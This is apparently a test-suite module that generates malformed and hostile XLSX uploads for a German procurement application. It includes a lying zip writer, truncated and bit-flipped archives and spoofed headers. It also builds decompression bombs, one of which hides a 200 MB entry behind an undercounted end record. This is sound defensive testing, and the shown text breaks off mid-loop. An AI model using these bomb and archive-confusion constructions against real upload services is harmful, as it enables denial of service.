// The hostile upload corpus (tests/integration/hostile-uploads.test.ts): malformed, hostile and
// tricky files, generated in code from a downloaded demand template and price sheet, so no binary
// fixture is committed and every file is the same on every run (hand-written cases plus samples
// from fast-check with a fixed seed).
//
// Every file says what each upload must do with it: refuse it with a German message matching a
// pattern, or import exactly the lines or prices it describes. The zip writer here is our own
// (not the product's): it can lie in every field, which a real archiver never does.
import * as zlib from "node:zlib";
import { deflateRawSync, gzipSync, inflateRawSync } from "node:zlib";

import fc from "fast-check";

export const CATEGORIES = [
  "zip-kaputt",
  "zip-bombe",
  "xml-entitaeten",
  "zeilen",
  "lange-texte",
  "formeln",
  "blaetter-und-kopfzeilen",
  "zahlen",
  "kodierungen",
  "falscher-dateityp",
  "eine-schlechte-zeile",
  "gueltig",
] as const;
export type Category = (typeof CATEGORIES)[number];

/** A demand line as the file states it: item code (A001 …) and the fields. */
export type DemandLineExpect = {
  code: string;
  quantity: number;
  costCentre?: string;
  product?: string;
  ledgerAccount?: string;
  deliveryAddress?: string;
  note?: string;
};

/** A bid as the file states it: prices in 1/10,000 EUR per lot number, item (in lot order), band. */
export type BidExpect = {
  bidderName: string;
  bidderAddress: string;
  lots: Record<number, number[][]>;
};

export type Expectation =
  | { kind: "refuse"; message: RegExp; status?: 400 | 413 }
  /** refused with `message`, or imported as `accept` says (for damage that may hit nothing) */
  | { kind: "either"; message: RegExp; accept: Expectation }
  | { kind: "demand"; lines: DemandLineExpect[] }
  | { kind: "bid"; bid: BidExpect };

export type HostileFile = {
  id: string;
  category: Category;
  fileName: string;
  bytes: Uint8Array<ArrayBuffer>;
  /** what the demand upload must do with it */
  demand: Expectation;
  /** what the price sheet upload must do with it */
  price: Expectation;
};

export type CorpusContext = {
  /** the officer's demand template, downloaded while the body had no lines */
  demandTemplate: Uint8Array;
  /** item codes of the template's item rows, from row 7 down */
  itemCodes: string[];
  /** the tender's empty price sheet */
  priceSheet: Uint8Array;
  /** lots in sheet order: number, and bands per item in the lot's order */
  lots: { number: number; bands: number[] }[];
  seed?: number;
};

// ── Messages expected (the product's wording, loosely: the test pins the problem, not commas) ──

export const M = {
  notXlsx: /keine Excel-Arbeitsmappe/,
  corrupt: /beschädigt oder unvollständig/,
  misread: /enthält den gespeicherten Wert .* die Datei ist beschädigt/,
  badAddress: /gibt es in einer Excel-Tabelle nicht; die Datei ist beschädigt/,
  outOfOrder: /steht doppelt oder außer der Reihe/,
  unknownElement: /das Element .* das Excel dort nicht schreibt; die Datei ist beschädigt/,
  anyDamage:
    /beschädigt|keine Excel-Arbeitsmappe|Das Blatt .* fehlt|verschlüsselt|zu vielen Teilen|entpackt zu groß/,
  anyDamageOrCell:
    /beschädigt|keine Excel-Arbeitsmappe|Das Blatt .* fehlt|Zeile \d+, Spalte|statt der Spaltenüberschrift|Vorlagenformat|passt nicht/,
  tooBigUnpacked: /entpackt zu groß/,
  tooManyParts: /zu vielen Teilen/,
  tooManyRows: /zu viele Zeilen/,
  tooManyCells: /zu viele Zellen/,
  dtd: /Dokumenttypdefinition \(DTD\)/,
  encrypted: /verschlüsselt|Kennwort/,
  pdf: /ein PDF-Dokument, keine Excel-Arbeitsmappe/,
  image: /ein Bild, keine Excel-Arbeitsmappe/,
  text: /eine Textdatei \(etwa CSV\), keine Excel-Arbeitsmappe/,
  oldExcel: /alten Format \(\.xls\)/,
  empty: /ist leer \(0 Byte\)/,
  tooLarge: /Die Datei ist zu groß: höchstens 5 MB/,
  noDemandSheet: /Das Blatt „(Bedarf|Steuerung)“ fehlt; die Datei ist keine Bedarfsvorlage/,
  noPriceSheet: /Das Blatt „(Angebot|Steuerung)“ fehlt; die Datei ist kein Preisblatt/,
  demandRows: /Die Tabelle hat [\d.]+ Zeilen; höchstens 10\.000/,
  header: /statt der Spaltenüberschrift/,
  otherRound: /gehört zu einer anderen Bedarfsabfrage/,
  otherBody: /Vorlage einer anderen Körperschaft/,
  format: /Unbekanntes (Vorlagen)?[fF]ormat/,
  mapping: /passt nicht zu den Artikeln dieser Bedarfsabfrage/,
  control: /Steuerdaten passen nicht/,
  otherTender: /Preisblatt einer anderen Ausschreibung/,
  protectedCell: /Geschützte Zellen dürfen nicht verändert werden/,
  notWhole: /ist keine ganze Zahl/,
  notNumber: /ist keine (gültige )?Zahl/,
  negative: /ist negativ/,
  tooLargeNumber: /ist zu (groß|hoch)/,
  decimals: /mehr als (vier|4) Nachkommastellen/,
  invalidAmount: /kein gültiger Betrag|ist keine Zahl/,
  formulaInText: /enthält eine Formel/,
  formulaNoValue: /Formel ohne (berechneten Wert|Zahl als Ergebnis)/,
  textTooLong: /Der Text ist zu lang/,
  control_chars: /unzulässige Steuerzeichen/,
  badChars: /ungültige Zeichen/,
  notText: /ist kein Text/,
  unknownCode: /ist keine Artikel-Nr\. dieser Bedarfsabfrage/,
  missingCode: /Die Artikel-Nr\. fehlt/,
  duplicate: /steht schon in Zeile/,
  noBidder: /Der Name des Bieters fehlt/,
  noPrices: /enthält keine Preise/,
  missingPrice: /Der Preis für .* fehlt/,
  rising: /Staffelpreise dürfen mit der Menge nicht steigen/,
  strayRow: /gehört nicht zum Preisblatt/,
  lotSheetMissing: /Das Blatt „Los \d+“ .* fehlt/,
  tooManySheetRows: /Das Blatt hat zu viele Zeilen/,
} as const;

const either = (message: RegExp, accept: Expectation): Expectation => ({
  kind: "either",
  message,
  accept,
});
const refuse = (message: RegExp, status?: 400 | 413): Expectation => ({
  kind: "refuse",
  message,
  status,
});

// ── A zip writer that can lie ──

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

function crc32(data: Uint8Array): number {
  // Node 20.15+ has it in zlib (fast); the table below is for older ones.
  const native = (zlib as { crc32?: (data: Uint8Array) => number }).crc32;
  if (native) return native(data);
  let crc = 0xffffffff;
  for (let i = 0; i < data.length; i++) crc = CRC_TABLE[(crc ^ data[i]!) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

export type ZipItem = {
  name: string;
  /** the name's bytes as stored, instead of `name` in UTF-8 */
  nameBytes?: Buffer;
  data: Buffer;
  /** 8 (deflate, default) or 0 (stored), or any other number to claim another method */
  method?: number;
  /** precompressed payload (with `method`), instead of compressing `data` */
  payload?: Buffer;
  /** the unpacked size claimed in the headers (default: the real one) */
  declaredSize?: number;
  crc?: number;
  flags?: number;
  /** a different name in the local header than in the central directory */
  localName?: string;
  /** ZIP64: sizes as 0xFFFFFFFF with the real values in an extra field */
  zip64?: boolean;
  /** central record points at this item's local header instead (overlapping entries) */
  sameDataAs?: number;
};

export type ZipOptions = {
  /** what the end record claims as the number of entries */
  countClaim?: number;
  prepend?: Buffer;
  append?: Buffer;
  comment?: Buffer;
  /** a ZIP64 end record and locator, with the 32-bit fields set to 0xFFFF/0xFFFFFFFF */
  zip64End?: boolean;
  /** central directory offset claimed (default: the real one) */
  directoryOffsetClaim?: number;
  level?: number;
};

export function zip(items: ZipItem[], options: ZipOptions = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  const offsets: number[] = [];
  let offset = options.prepend?.length ?? 0;
  if (options.prepend) locals.push(options.prepend);
  const packed: { payload: Buffer; crc: number }[] = [];
  items.forEach((item) => {
    const method = item.method ?? 8;
    // An overlapping entry shares the packed data of the one it points at.
    const shared = item.sameDataAs === undefined ? undefined : packed[item.sameDataAs];
    const payload =
      shared?.payload ??
      item.payload ??
      (method === 8 ? deflateRawSync(item.data, { level: options.level ?? 6 }) : item.data);
    const crc = item.crc ?? shared?.crc ?? crc32(item.data);
    packed.push({ payload, crc });
    const size = item.declaredSize ?? item.data.length;
    const name = item.nameBytes ?? Buffer.from(item.name, "utf8");
    const localName = Buffer.from(item.localName ?? item.name, "utf8");
    const flags = item.flags ?? 0x0800;
    const zip64Extra = Buffer.alloc(item.zip64 ? 28 : 0);
    if (item.zip64) {
      zip64Extra.writeUInt16LE(0x0001, 0);
      zip64Extra.writeUInt16LE(24, 2);
      zip64Extra.writeBigUInt64LE(BigInt(size), 4);
      zip64Extra.writeBigUInt64LE(BigInt(payload.length), 12);
      zip64Extra.writeBigUInt64LE(BigInt(offset), 20);
    }
    let localOffset = offset;
    if (item.sameDataAs === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(item.zip64 ? 45 : 20, 4);
      local.writeUInt16LE(flags, 6);
      local.writeUInt16LE(method, 8);
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(item.zip64 ? 0xffffffff : payload.length, 18);
      local.writeUInt32LE(item.zip64 ? 0xffffffff : size >>> 0, 22);
      local.writeUInt16LE(localName.length, 26);
      local.writeUInt16LE(zip64Extra.length, 28);
      locals.push(local, localName, zip64Extra, payload);
      offset += 30 + localName.length + zip64Extra.length + payload.length;
    } else {
      localOffset = offsets[item.sameDataAs]!;
    }
    offsets.push(localOffset);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(item.zip64 ? 45 : 20, 4);
    central.writeUInt16LE(item.zip64 ? 45 : 20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(item.zip64 ? 0xffffffff : payload.length, 20);
    central.writeUInt32LE(item.zip64 ? 0xffffffff : size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt16LE(zip64Extra.length, 30);
    central.writeUInt32LE(item.zip64 ? 0xffffffff : localOffset, 42);
    if (item.zip64) zip64Extra.writeBigUInt64LE(BigInt(localOffset), 20);
    centrals.push(central, name, Buffer.from(zip64Extra));
  });
  const directoryOffset = offset;
  const directory = Buffer.concat(centrals);
  const tail: Buffer[] = [];
  const count = options.countClaim ?? items.length;
  if (options.zip64End) {
    const end64 = Buffer.alloc(56);
    end64.writeUInt32LE(0x06064b50, 0);
    end64.writeBigUInt64LE(44n, 4);
    end64.writeUInt16LE(45, 12);
    end64.writeUInt16LE(45, 14);
    end64.writeBigUInt64LE(BigInt(count), 24);
    end64.writeBigUInt64LE(BigInt(count), 32);
    end64.writeBigUInt64LE(BigInt(directory.length), 40);
    end64.writeBigUInt64LE(BigInt(options.directoryOffsetClaim ?? directoryOffset), 48);
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    locator.writeBigUInt64LE(BigInt(directoryOffset + directory.length), 8);
    locator.writeUInt32LE(1, 16);
    tail.push(end64, locator);
  }
  const comment = options.comment ?? Buffer.alloc(0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(options.zip64End ? 0xffff : count & 0xffff, 8);
  end.writeUInt16LE(options.zip64End ? 0xffff : count & 0xffff, 10);
  end.writeUInt32LE(options.zip64End ? 0xffffffff : directory.length, 12);
  end.writeUInt32LE(
    options.zip64End ? 0xffffffff : (options.directoryOffsetClaim ?? directoryOffset),
    16,
  );
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([
    ...locals,
    directory,
    ...tail,
    end,
    comment,
    options.append ?? Buffer.alloc(0),
  ]);
}

/** The entries of an (honest) zip archive, in order. */
export function unzip(bytes: Uint8Array): { name: string; data: Buffer }[] {
  const buf = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const eocd = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = buf.readUInt16LE(eocd + 10);
  let at = buf.readUInt32LE(eocd + 16);
  const entries: { name: string; data: Buffer }[] = [];
  for (let n = 0; n < count; n++) {
    const method = buf.readUInt16LE(at + 10);
    const compressed = buf.readUInt32LE(at + 20);
    const nameLength = buf.readUInt16LE(at + 28);
    const extra = buf.readUInt16LE(at + 30);
    const comment = buf.readUInt16LE(at + 32);
    const local = buf.readUInt32LE(at + 42);
    const name = buf.toString("utf8", at + 46, at + 46 + nameLength);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(start, start + compressed);
    entries.push({ name, data: method === 8 ? inflateRawSync(raw) : Buffer.from(raw) });
    at += 46 + nameLength + extra + comment;
  }
  return entries;
}

// ── Editing a workbook at the XML level ──

export function xmlEscape(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
}

/** A cell writer: given its reference ("F7"), the whole `<c>` element. */
export type CellXml = (ref: string) => string;

export const cell = {
  number:
    (v: number | string): CellXml =>
    (ref) =>
      `<c r="${ref}"><v>${v}</v></c>`,
  text:
    (text: string): CellXml =>
    (ref) =>
      `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlEscape(text)}</t></is></c>`,
  formula:
    (f: string, v?: string | number, t?: "str" | "b" | "e"): CellXml =>
    (ref) =>
      `<c r="${ref}"${t ? ` t="${t}"` : ""}><f>${xmlEscape(f)}</f>${v === undefined ? "" : `<v>${xmlEscape(String(v))}</v>`}</c>`,
  raw:
    (inner: string, attributes = ""): CellXml =>
    (ref) =>
      `<c r="${ref}"${attributes}>${inner}</c>`,
  bool:
    (v: boolean): CellXml =>
    (ref) =>
      `<c r="${ref}" t="b"><v>${v ? 1 : 0}</v></c>`,
  error:
    (code: string): CellXml =>
    (ref) =>
      `<c r="${ref}" t="e"><v>${code}</v></c>`,
  empty: (): CellXml => (ref) => `<c r="${ref}"/>`,
  richText:
    (runs: string[]): CellXml =>
    (ref) =>
      `<c r="${ref}" t="inlineStr"><is>${runs.map((r) => `<r><rPr><b/></rPr><t xml:space="preserve">${xmlEscape(r)}</t></r>`).join("")}</is></c>`,
};

function rowOf(ref: string): number {
  return Number(/\d+$/.exec(ref)![0]);
}

function columnOf(ref: string): number {
  let n = 0;
  for (const ch of /^[A-Z]+/.exec(ref)?.[0] ?? "") n = n * 26 + ch.charCodeAt(0) - 64;
  return n;
}

/**
 * `xml` with cell `ref` replaced by `content`; a missing cell is put into its row in column
 * order, a missing row at the end of the sheet (callers add rows below the existing ones).
 */
export function setCell(xml: string, ref: string, content: string): string {
  const open = new RegExp(`<c r="${ref}"(?=[\\s/>])`).exec(xml);
  if (open) {
    const tagEnd = xml.indexOf(">", open.index);
    const end = xml[tagEnd - 1] === "/" ? tagEnd + 1 : xml.indexOf("</c>", tagEnd) + 4;
    return xml.slice(0, open.index) + content + xml.slice(end);
  }
  const row = rowOf(ref);
  const rowOpen = new RegExp(`<row r="${row}"(?=[\\s/>])`).exec(xml);
  if (rowOpen) {
    const tagEnd = xml.indexOf(">", rowOpen.index);
    if (xml[tagEnd - 1] === "/") {
      return `${xml.slice(0, tagEnd - 1)}>${content}</row>${xml.slice(tagEnd + 1)}`;
    }
    const close = xml.indexOf("</row>", tagEnd);
    const cells = /<c r="([A-Z]+)\d+"/g;
    cells.lastIndex = tagEnd;
    let at = close;
    for (let m = cells.exec(xml); m && m.index < close; m = cells.exec(xml)) {
      if (columnOf(m[1]!) > columnOf(ref)) {
        at = m.index;
        break;
      }
    }
    return xml.slice(0, at) + content + xml.slice(at);
  }
  const end = xml.indexOf("</sheetData>");
  if (end < 0) {
    return xml.replace("<sheetData/>", `<sheetData><row r="${row}">${content}</row></sheetData>`);
  }
  return `${xml.slice(0, end)}<row r="${row}">${content}</row>${xml.slice(end)}`;
}

/** A workbook as its parts, editable by sheet name, written back as a fresh zip. */
export class Book {
  parts: { name: string; data: Buffer }[];

  constructor(bytes: Uint8Array) {
    this.parts = unzip(bytes);
  }

  clone(): Book {
    const copy = Object.create(Book.prototype) as Book;
    copy.parts = this.parts.map((p) => ({ name: p.name, data: Buffer.from(p.data) }));
    return copy;
  }

  get(name: string): string {
    const part = this.parts.find((p) => p.name === name);
    if (!part) throw new Error(`no part ${name}`);
    return part.data.toString("utf8");
  }

  set(name: string, text: string | Buffer): this {
    const data = typeof text === "string" ? Buffer.from(text, "utf8") : text;
    const part = this.parts.find((p) => p.name === name);
    if (part) part.data = data;
    else this.parts.push({ name, data });
    return this;
  }

  remove(name: string): this {
    this.parts = this.parts.filter((p) => p.name !== name);
    return this;
  }

  /** The part of sheet `sheet` ("Bedarf" → "xl/worksheets/sheet1.xml"). */
  sheetPart(sheet: string): string {
    const workbook = this.get("xl/workbook.xml");
    const tag = new RegExp(`<sheet [^>]*name="${sheet}"[^>]*>`).exec(workbook)?.[0];
    const rId = tag && /r:id="([^"]+)"/.exec(tag)?.[1];
    const rels = this.get("xl/_rels/workbook.xml.rels");
    const target = new RegExp(`<Relationship Id="${rId}"[^>]*Target="([^"]+)"`).exec(rels)?.[1];
    if (!target) throw new Error(`no sheet ${sheet}`);
    return `xl/${target}`;
  }

  cells(sheet: string, cells: Record<string, CellXml>): this {
    const part = this.sheetPart(sheet);
    let xml = this.get(part);
    for (const [ref, content] of Object.entries(cells)) xml = setCell(xml, ref, content(ref));
    return this.set(part, xml);
  }

  edit(name: string, change: (xml: string) => string): this {
    return this.set(name, change(this.get(name)));
  }

  /** Appends a shared string (not deduplicated) and returns its index. */
  sharedString(raw: string): number {
    const sst = this.get("xl/sharedStrings.xml");
    const index = (sst.match(/<si>/g) ?? []).length;
    this.set("xl/sharedStrings.xml", sst.replace("</sst>", `<si><t>${raw}</t></si></sst>`));
    return index;
  }

  /** Adds a cell style with number format `numFmtId` (14 = date) and returns its index. */
  style(numFmtId: number): number {
    const styles = this.get("xl/styles.xml");
    const count = Number(/<cellXfs count="(\d+)"/.exec(styles)![1]);
    this.set(
      "xl/styles.xml",
      styles
        .replace(/<cellXfs count="\d+"/, `<cellXfs count="${count + 1}"`)
        .replace(
          "</cellXfs>",
          `<xf numFmtId="${numFmtId}" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>`,
        ),
    );
    return count;
  }

  bytes(options: ZipOptions = {}, item: Partial<ZipItem> = {}): Uint8Array<ArrayBuffer> {
    return toBytes(
      zip(
        this.parts.map((p) => ({ ...p, ...item })),
        options,
      ),
    );
  }
}

function toBytes(buffer: Buffer): Uint8Array<ArrayBuffer> {
  const bytes = new Uint8Array(buffer.length);
  bytes.set(buffer);
  return bytes;
}

// ── The corpus ──

const DEMAND = "Bedarf";
const COVER = "Angebot";

/** Columns of the demand sheet. */
const D = {
  code: "A",
  quantity: "F",
  costCentre: "G",
  product: "H",
  ledgerAccount: "I",
  deliveryAddress: "J",
  note: "K",
  itemId: "M",
} as const;
const FIRST_ROW = 7;

export function buildCorpus(context: CorpusContext): HostileFile[] {
  const seed = context.seed ?? 20_261_123;
  const files: HostileFile[] = [];
  const demandBook = new Book(context.demandTemplate);
  const priceBook = new Book(context.priceSheet);
  const itemRows = context.itemCodes.map((code, i) => ({ code, row: FIRST_ROW + i }));
  const firstFreeRow = FIRST_ROW + context.itemCodes.length;
  let bidders = 0;

  // Every file has an expectation for both uploads; a file made for one upload is refused by the
  // other for its missing sheets.
  const forDemand = (demand: Expectation): Pick<HostileFile, "demand" | "price"> => ({
    demand,
    price: refuse(M.noPriceSheet),
  });
  const forPrice = (price: Expectation): Pick<HostileFile, "demand" | "price"> => ({
    demand: refuse(M.noDemandSheet),
    price,
  });
  const forBoth = (message: RegExp, status?: 400 | 413) => ({
    demand: refuse(message, status),
    price: refuse(message, status),
  });
  const add = (
    category: Category,
    id: string,
    bytes: Uint8Array,
    expect: Pick<HostileFile, "demand" | "price">,
    fileName = `${id}.xlsx`,
  ) => {
    files.push({ id: `${category}/${id}`, category, fileName, bytes: copy(bytes), ...expect });
  };

  /** A demand file with `quantities` on the item rows (undefined = left empty) and `extra` cells. */
  const demandFile = (
    cells: Record<string, CellXml>,
    edit?: (book: Book) => void,
  ): Uint8Array<ArrayBuffer> => {
    const book = demandBook.clone().cells(DEMAND, cells);
    edit?.(book);
    return book.bytes();
  };
  /** The cells that state `lines`: item rows first, then free rows with the code typed in. */
  const demandCells = (lines: DemandLineExpect[], start = firstFreeRow) => {
    const cells: Record<string, CellXml> = {};
    const used = new Set<string>();
    let free = start;
    for (const line of lines) {
      const itemRow = itemRows.find((r) => r.code === line.code);
      let row: number;
      if (itemRow && !used.has(line.code)) {
        row = itemRow.row;
        used.add(line.code);
      } else {
        row = free++;
        cells[`${D.code}${row}`] = cell.text(line.code);
      }
      cells[`${D.quantity}${row}`] = cell.number(line.quantity);
      for (const key of [
        "costCentre",
        "product",
        "ledgerAccount",
        "deliveryAddress",
        "note",
      ] as const) {
        if (line[key] !== undefined) cells[`${D[key]}${row}`] = cell.text(line[key]);
      }
    }
    return cells;
  };
  const validDemand = (
    category: Category,
    id: string,
    lines: DemandLineExpect[],
    override: Record<string, CellXml> = {},
    expected: DemandLineExpect[] = lines,
    edit?: (book: Book) => void,
  ) => {
    add(
      category,
      id,
      demandFile({ ...demandCells(lines), ...override }, edit),
      forDemand({ kind: "demand", lines: expected }),
    );
  };
  const badDemand = (
    category: Category,
    id: string,
    cells: Record<string, CellXml>,
    message: RegExp,
    edit?: (book: Book) => void,
  ) => add(category, id, demandFile(cells, edit), forDemand(refuse(message)));

  /** Price cells for `prices` (lot number → item → band, in euros as the cell should hold). */
  const priceCells = (prices: Record<number, CellXml[][]>) => {
    const bySheet: Record<string, Record<string, CellXml>> = {};
    for (const lot of context.lots) {
      const items = prices[lot.number];
      if (!items) continue;
      const cells: Record<string, CellXml> = {};
      let row = FIRST_ROW;
      lot.bands.forEach((bands, i) => {
        for (let b = 0; b < bands; b++) {
          const value = items[i]?.[b];
          if (value) cells[`G${row}`] = value;
          row++;
        }
      });
      bySheet[`Los ${lot.number}`] = cells;
    }
    return bySheet;
  };
  const priceFile = (
    bidder: { name?: CellXml; address?: CellXml },
    prices: Record<number, CellXml[][]>,
    edit?: (book: Book) => void,
  ): Uint8Array<ArrayBuffer> => {
    const book = priceBook.clone();
    const cover: Record<string, CellXml> = {};
    if (bidder.name) cover.B9 = bidder.name;
    if (bidder.address) cover.B10 = bidder.address;
    book.cells(COVER, cover);
    for (const [sheet, cells] of Object.entries(priceCells(prices))) book.cells(sheet, cells);
    edit?.(book);
    return book.bytes();
  };
  /** Good falling prices for every lot (tenthousandths), varied by `base`. */
  const goodPrices = (base: number): Record<number, number[][]> =>
    Object.fromEntries(
      context.lots.map((lot) => [
        lot.number,
        lot.bands.map((bands, i) =>
          Array.from({ length: bands }, (_, b) => base + i * 10_000 - b * 1_000),
        ),
      ]),
    );
  const asCells = (prices: Record<number, number[][]>): Record<number, CellXml[][]> =>
    Object.fromEntries(
      Object.entries(prices).map(([lot, items]) => [
        lot,
        items.map((bands) => bands.map((p) => cell.number(p / 10_000))),
      ]),
    );
  const nextBidder = (label: string) => `${label} ${++bidders}`;
  const validPrice = (
    category: Category,
    id: string,
    prices: Record<number, number[][]>,
    {
      name = nextBidder("Bieter"),
      address = "",
      nameCell,
      addressCell,
      cells,
      edit,
    }: {
      name?: string;
      address?: string;
      nameCell?: CellXml;
      addressCell?: CellXml;
      cells?: Record<number, CellXml[][]>;
      edit?: (book: Book) => void;
    } = {},
  ) => {
    add(
      category,
      id,
      priceFile(
        {
          name: nameCell ?? cell.text(name),
          address: addressCell ?? (address ? cell.text(address) : undefined),
        },
        cells ?? asCells(prices),
        edit,
      ),
      forPrice({ kind: "bid", bid: { bidderName: name, bidderAddress: address, lots: prices } }),
    );
  };
  const badPrice = (
    category: Category,
    id: string,
    prices: Record<number, CellXml[][]>,
    message: RegExp,
    {
      name = cell.text(nextBidder("Fehler")),
      address,
      edit,
    }: {
      name?: CellXml;
      address?: CellXml;
      edit?: (book: Book) => void;
    } = {},
  ) => add(category, id, priceFile({ name, address }, prices, edit), forPrice(refuse(message)));
  /** Prices of the first lot with one band of its first item replaced by `value`. */
  const oneBadPrice = (value: CellXml, item = 0, band = 1): Record<number, CellXml[][]> => {
    const prices = asCells(goodPrices(50_000));
    const lot = context.lots[0]!.number;
    prices[lot]![item]![band] = value;
    return prices;
  };

  const demandBytes = demandFile(demandCells([{ code: itemRows[0]!.code, quantity: 5 }]));
  const priceBytes = priceFile({ name: cell.text("Vorlage GmbH") }, asCells(goodPrices(40_000)));
  const sampled = <T>(arbitrary: fc.Arbitrary<T>, numRuns: number, offset: number) =>
    fc.sample(arbitrary, { seed: seed + offset, numRuns });

  // ── Truncated and corrupt archives ──
  {
    const cat: Category = "zip-kaputt";
    const cuts = sampled(fc.double({ min: 0.001, max: 0.999, noNaN: true }), 30, 1);
    cuts.forEach((f, i) => {
      const at = Math.max(1, Math.floor(demandBytes.length * f));
      add(cat, `demand-cut-${i}-at-${at}`, demandBytes.slice(0, at), forBoth(M.corrupt));
    });
    sampled(fc.double({ min: 0.001, max: 0.999, noNaN: true }), 15, 2).forEach((f, i) => {
      const at = Math.max(1, Math.floor(priceBytes.length * f));
      add(cat, `price-cut-${i}-at-${at}`, priceBytes.slice(0, at), forBoth(M.corrupt));
    });
    for (const cut of [1, 2, 4, 21, 22, 30]) {
      add(cat, `demand-last-${cut}-bytes-missing`, demandBytes.slice(0, -cut), forBoth(M.corrupt));
    }
    // Single flipped bits and overwritten runs, inside the data: the CRC-32 notices.
    const flips = sampled(
      fc.record({
        at: fc.integer({ min: 40, max: demandBytes.length - 200 }),
        bit: fc.integer({ min: 0, max: 7 }),
      }),
      25,
      3,
    );
    flips.forEach(({ at, bit }, i) => {
      const bytes = copy(demandBytes);
      bytes[at] = bytes[at]! ^ (1 << bit);
      // A flip in a field no reader uses (a time stamp, the local copy of a name) changes
      // nothing; anywhere else the checks notice.
      add(cat, `demand-bit-flip-${i}-at-${at}`, bytes, {
        demand: either(M.anyDamage, {
          kind: "demand",
          lines: [{ code: itemRows[0]!.code, quantity: 5 }],
        }),
        price: refuse(M.anyDamage),
      });
    });
    sampled(fc.integer({ min: 40, max: priceBytes.length - 300 }), 10, 4).forEach((at, i) => {
      const bidderName = nextBidder("Beschädigt");
      const prices = goodPrices(45_000);
      const bytes = priceFile({ name: cell.text(bidderName) }, asCells(prices));
      bytes.fill(0xaa, at, at + 64);
      add(cat, `price-garbage-run-${i}-at-${at}`, bytes, {
        demand: refuse(M.anyDamage),
        price: either(M.anyDamage, {
          kind: "bid",
          bid: { bidderName, bidderAddress: "", lots: prices },
        }),
      });
    });
    // The whole file stored uncompressed with one digit changed: only the CRC-32 can tell.
    {
      const stored = new Book(demandBytes).bytes({}, { method: 0 });
      const marker = Buffer.from(`<c r="F${FIRST_ROW}"><v>5</v>`);
      const at = Buffer.from(stored).indexOf(marker);
      if (at < 0) throw new Error("quantity cell not found in the stored archive");
      const tampered = copy(stored);
      tampered[at + marker.length - 5] = "7".charCodeAt(0); // the "5"
      add(cat, "stored-digit-changed-crc-wrong", tampered, forBoth(M.corrupt));
    }
    const parts = new Book(demandBytes).parts;
    // The end record claims one entry, the directory has all: JSZip would read them all.
    add(cat, "end-record-undercounts", toBytes(zip(parts, { countClaim: 1 })), forBoth(M.corrupt));
    add(cat, "end-record-overcounts", toBytes(zip(parts, { countClaim: 40 })), forBoth(M.corrupt));
    add(cat, "end-record-counts-zero", toBytes(zip(parts, { countClaim: 0 })), forBoth(M.corrupt));
    // The bomb hidden behind the count: a checker that reads as many records as the end record
    // claims passes it, JSZip reads on and inflates 200 MB (from a 200 kB upload).
    add(
      cat,
      "bomb-behind-the-count",
      toBytes(
        zip(
          [...parts, { name: "xl/media/image1.png", data: Buffer.alloc(200 * 1024 * 1024, 0x20) }],
          { countClaim: parts.length, level: 4 },
        ),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "prepended-garbage",
      toBytes(zip(parts, { prepend: Buffer.from("MZ".padEnd(4096, "\0")) })),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "prepended-zip-header",
      // Junk before the first entry, offsets right: the archive inside is intact (as in a
      // self-extracting archive), and it is read as it is.
      toBytes(zip(parts, { prepend: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]) })),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    add(
      cat,
      "trailing-garbage",
      toBytes(zip(parts, { append: Buffer.from("trailing data after the archive") })),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "directory-offset-beyond-end",
      toBytes(zip(parts, { directoryOffsetClaim: 0x7fffffff })),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "directory-offset-zero",
      toBytes(zip(parts, { directoryOffsetClaim: 0 })),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "duplicate-sheet-entry",
      toBytes(
        zip([...parts, { name: "xl/worksheets/sheet1.xml", data: Buffer.from("<worksheet/>") }]),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "local-name-differs",
      toBytes(
        zip(
          parts.map((p) =>
            p.name === "xl/worksheets/sheet1.xml" ? { ...p, localName: "xl/evil.xml" } : p,
          ),
        ),
      ),
      // The local name is not read: the central directory is authoritative, the data is fine.
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    add(
      cat,
      "wrong-crc-everywhere",
      toBytes(zip(parts.map((p) => ({ ...p, crc: 0 })))),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "encrypted-flag",
      toBytes(zip(parts.map((p) => ({ ...p, flags: 0x0801 })))),
      forBoth(M.encrypted),
    );
    add(
      cat,
      "strong-encryption-flag",
      toBytes(zip(parts.map((p) => ({ ...p, flags: 0x0841 })))),
      forBoth(M.encrypted),
    );
    for (const method of [1, 9, 12, 14, 93, 95, 99]) {
      add(
        cat,
        `compression-method-${method}`,
        toBytes(zip(parts.map((p) => ({ ...p, method, payload: deflateRawSync(p.data) })))),
